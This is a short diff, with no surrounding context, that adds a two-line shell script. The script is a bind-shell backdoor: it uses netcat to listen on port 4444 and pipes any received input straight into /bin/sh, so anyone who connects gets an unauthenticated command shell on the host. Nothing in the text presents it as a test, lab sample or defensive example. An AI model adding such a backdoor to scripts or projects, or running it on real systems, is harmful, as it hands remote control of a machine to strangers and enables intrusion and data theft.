@@ -1,0 +1,2 @@
+#!/bin/sh
+nc -l -p 4444 | /bin/sh
